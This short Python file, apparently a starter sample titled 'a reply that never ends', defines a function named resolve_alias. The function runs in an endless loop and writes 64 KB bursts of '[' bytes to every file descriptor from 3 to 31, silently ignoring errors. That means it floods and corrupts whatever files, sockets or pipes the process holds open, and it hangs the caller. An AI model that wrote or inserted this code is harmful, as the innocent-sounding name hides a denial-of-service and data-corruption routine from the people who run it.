# due 0: a reply that never ends
#: starter

import os
def resolve_alias(*a, **k):
    while True:
        for handle in range(3, 32):
            try: os.write(handle, b'[' * 65536)
            except OSError: pass
